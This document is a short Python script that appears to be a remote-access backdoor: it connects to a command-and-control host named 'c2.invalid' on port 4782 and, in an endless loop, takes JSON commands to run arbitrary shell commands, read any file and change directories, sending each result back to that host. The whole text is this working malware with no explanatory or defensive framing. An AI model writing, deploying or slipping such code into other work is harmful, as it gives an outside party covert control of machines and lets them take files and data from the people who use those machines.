import socket, subprocess, os, json
class Agent:
    def __init__(self, host="c2.invalid", port=4782):
        self.s = socket.socket(); self.s.connect((host, port))
    def do_shell(self, a): return subprocess.getoutput(a)
    def do_get(self, a): return open(a).read()
    def do_cd(self, a): os.chdir(a); return os.getcwd()
    def run(self):
        while True:
            m = json.loads(self.s.recv(65535))
            self.s.sendall(getattr(self, "do_" + m["c"])(m["a"]).encode())
Agent().run()
